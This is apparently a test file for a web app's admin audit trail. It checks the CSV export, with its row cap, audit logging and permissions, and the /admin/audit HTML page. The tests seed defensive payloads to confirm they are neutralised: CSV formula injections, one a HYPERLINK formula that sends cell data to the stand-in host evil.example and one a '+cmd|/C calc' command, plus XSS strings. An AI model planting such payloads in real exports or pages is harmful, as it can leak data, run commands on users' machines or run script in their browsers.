/**
 * The audit trail's CSV export (SPEC §4 GET /api/admin/audit?format=csv: a row
 * cap, CSV-injection protection, audited, needs audit:export) and the page
 * /admin/audit with its htmx fragments. Run on libsql and on PostgreSQL.
 */
import { describe, expect, test } from 'bun:test'
import { ADMIN, CSV_HEADER, DAY, eventsOf, MINUTE, parseCsv, seed, uniqueTag } from './audit-support'
import { DIALECT, expectErrorShape, freshUser, useApp } from './support'

describe(`audit trail export and page on ${DIALECT}`, () => {
  const app = useApp({ ADMIN_EMAILS: ADMIN })
  const get = (path: string, user = ADMIN, role?: string) => app().json('GET', path, { user, role })

  describe('CSV export', () => {
    test('text/csv with a header row, the same filters and order as the JSON list, as an attachment', async () => {
      const t = app()
      const action = uniqueTag('csv')
      const now = Date.now()
      await seed(t, [
        { action, at: new Date(now - 3 * MINUTE), actor: 'plain@example.com', target: 'user:1', requestId: 'req-csv-1', metadata: { email: 'x@example.com', role: 'auditor' } },
        { action, at: new Date(now - 2 * MINUTE), actor: 'comma, "quoted"\nnewline@example.com', target: 'user:2' },
        { action, at: new Date(now - 1 * MINUTE), actor: 'other@example.com', target: 'session:3' },
      ])
      const res = await t.call('GET', `/api/admin/audit?format=csv&action=${action}&target=user:*`, { user: ADMIN })
      expect(res.status).toBe(200)
      expect(res.headers.get('content-type')).toStartWith('text/csv')
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-[0-9T-]+\.csv"$/)
      expect(res.headers.get('x-export-truncated')).toBeNull()
      expect(res.headers.get('x-request-id')).toBeTruthy()
      const text = await res.text()
      expect(text.split('\r\n')[0]).toBe(CSV_HEADER)
      const rows = parseCsv(text)
      expect(rows[0]!.join(',')).toBe(CSV_HEADER)
      const json = (await get(`/api/admin/audit?action=${action}&target=user:*`)).body.items
      expect(rows.slice(1).map((row) => row[0])).toEqual(json.map((item: any) => item.id))
      expect(rows).toHaveLength(3)
      const [quoted, plain] = rows.slice(1)
      expect(quoted![2]).toBe('comma, "quoted"\nnewline@example.com')
      expect(plain!.slice(0, 11)).toEqual([json[1].id, json[1].at, 'plain@example.com', '', '', action, 'user:1', '', '', 'req-csv-1', ''])
      expect(JSON.parse(plain![11]!)).toEqual({ email: 'x@example.com', role: 'auditor' })
    })

    test('cells a spreadsheet would run as formulas are prefixed with a quote', async () => {
      const t = app()
      const action = uniqueTag('inject')
      await seed(t, [
        {
          action,
          at: new Date(),
          actor: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
          role: '+cmd|/C calc!A0',
          target: '@SUM(1+1)',
          requestId: '-2+3',
          ip: '\t=1',
          sessionId: 'safe-value',
          metadata: { note: '=1+1' },
        },
      ])
      const res = await t.call('GET', `/api/admin/audit?format=csv&action=${action}`, { user: ADMIN })
      const [, row] = parseCsv(await res.text())
      const cell = (name: string) => row![CSV_HEADER.split(',').indexOf(name)]
      expect(cell('actor')).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`)
      expect(cell('role')).toBe(`'+cmd|/C calc!A0`)
      expect(cell('target')).toBe(`'@SUM(1+1)`)
      expect(cell('request_id')).toBe(`'-2+3`)
      expect(cell('ip')).toBe(`'\t=1`)
      expect(cell('session_id')).toBe('safe-value')
      expect(cell('metadata')).toBe('{"note":"=1+1"}')
      for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/)
    })

    test('exporting is audited (audit.export, with the row count) and needs audit:export', async () => {
      const t = app()
      const action = uniqueTag('exported')
      await seed(t, [{ action, at: new Date() }, { action, at: new Date() }])
      const auditor = freshUser('exporter')
      const res = await t.call('GET', `/api/admin/audit?format=csv&action=${action}`, { user: auditor, role: 'auditor' })
      expect(res.status).toBe(200)
      const events = await eventsOf(t, 'audit.export', res.headers.get('x-request-id')!)
      expect(events).toHaveLength(1)
      expect(events[0]!).toMatchObject({ actor: auditor, role: 'auditor' })
      expect(events[0]!.metadata).toEqual({ filters: { action }, rows: 2, truncated: false })
      expect(await eventsOf(t, 'audit.view', res.headers.get('x-request-id')!)).toHaveLength(0)
      expectErrorShape(expect, await t.json('GET', `/api/admin/audit?format=csv`, { user: freshUser('member') }), 403)
    })

    test(
      'at most 10,000 rows; X-Export-Truncated: true when more matched',
      async () => {
        const t = app()
        const action = uniqueTag('bulk')
        const start = Date.now() - 2 * DAY
        await seed(t, Array.from({ length: 10_001 }, (_, i) => ({ action, at: new Date(start + i * 1000), actor: `bulk-${i}@example.com` })))
        const full = await t.call('GET', `/api/admin/audit?format=csv&action=${action}`, { user: ADMIN })
        expect(full.headers.get('x-export-truncated')).toBe('true')
        const rows = (await full.text()).trimEnd().split('\r\n')
        expect(rows).toHaveLength(10_001) // header + 10,000
        expect(rows[1]).toContain('bulk-10000@example.com') // newest first: the oldest is the one left out
        expect(rows.some((row) => row.includes('bulk-0@'))).toBe(false)
        // Exactly 10,000 matching rows is a complete export.
        const since = new Date(start + 1000).toISOString()
        const exact = await t.call('GET', `/api/admin/audit?format=csv&action=${action}&since=${since}`, { user: ADMIN })
        expect(exact.headers.get('x-export-truncated')).toBeNull()
        expect((await exact.text()).trimEnd().split('\r\n')).toHaveLength(10_001)
      },
      { timeout: 60_000 },
    )
  })

  describe('page /admin/audit', () => {
    test('shows events with their request ids, filter form and export link; viewing is audited', async () => {
      const t = app()
      const action = uniqueTag('page')
      await seed(t, [{ action, at: new Date(), actor: 'shown@example.com', requestId: 'req-page-0001', target: 'user:1' }])
      const auditor = freshUser('page-auditor')
      const res = await t.call('GET', `/admin/audit?action=${action}`, { user: auditor, role: 'auditor', headers: { 'x-request-id': `audit-page-${Date.now()}` } })
      expect(res.status).toBe(200)
      expect(res.headers.get('content-type')).toContain('text/html')
      const html = await res.text()
      expect(html).toContain('<form id="audit-filter"')
      expect(html).toContain('href="/admin/audit?request_id=req-page-0001"')
      expect(html).toContain('data-copy="req-page-0001"') // the short id shows its start; the full one is in the title and the copy button
      expect(html).toContain(`href="/api/admin/audit?action=${action}&format=csv"`)
      expect(html).toContain(`value="${action}"`)
      const viewed = await eventsOf(t, 'admin.view', res.headers.get('x-server-request-id')!)
      expect(viewed).toHaveLength(1)
      expect(viewed[0]!).toMatchObject({ actor: auditor, target: 'page:/admin/audit' })
    })

    test('htmx: the filter answers the results section, "load more" the next rows; a bad date answers in place', async () => {
      const t = app()
      const action = uniqueTag('frag')
      const now = Date.now()
      await seed(t, Array.from({ length: 3 }, (_, i) => ({ action, at: new Date(now - (5 - i) * MINUTE), requestId: `req-frag-${i}` })))
      const section = await t.call('GET', `/admin/audit?action=${action}&limit=2`, { user: ADMIN, headers: { 'hx-request': 'true' } })
      expect(section.status).toBe(200)
      const html = await section.text()
      expect(html).toStartWith('<section id="audit-results">')
      expect(html).toContain('req-frag-2')
      expect(html).toContain('req-frag-1')
      expect(html).not.toContain('req-frag-0')
      const more = /hx-get="([^"]+cursor=[^"]+)"/.exec(html)?.[1]?.replaceAll('&amp;', '&')
      expect(more).toBeTruthy()
      const rows = await t.call('GET', more!, { user: ADMIN, headers: { 'hx-request': 'true' } })
      const rowsHtml = await rows.text()
      expect(rowsHtml).toStartWith('<tr')
      expect(rowsHtml).toContain('req-frag-0')
      expect(rowsHtml).not.toContain('req-frag-1')
      expect(rowsHtml).not.toContain('audit-more')

      const bad = await t.call('GET', '/admin/audit?since=soon', { user: ADMIN, headers: { 'hx-request': 'true' } })
      expect(bad.status).toBe(422)
      const badHtml = await bad.text()
      expect(badHtml).toStartWith('<section id="audit-results">')
      expect(badHtml).toContain('Invalid query field &quot;since&quot;')
      const badPage = await t.call('GET', '/admin/audit?until=never', { user: ADMIN })
      expect(badPage.status).toBe(422)
      expect(await badPage.text()).toContain('value="never"')
    })

    test('values from the trail are escaped', async () => {
      const t = app()
      const action = uniqueTag('xss')
      await seed(t, [{ action, at: new Date(), actor: '<img src=x onerror=alert(1)>', target: '<script>alert(2)</script>', metadata: { x: '</code><b>bold</b>' } }])
      const html = await (await t.call('GET', `/admin/audit?action=${action}`, { user: ADMIN })).text()
      expect(html).not.toContain('<img src=x')
      expect(html).not.toContain('<script>alert(2)')
      expect(html).not.toContain('<b>bold</b>')
      expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;')
    })

    test('members get 403', async () => {
      expectErrorShape(expect, await app().json('GET', '/admin/audit', { user: freshUser('member') }), 403)
    })
  })
})
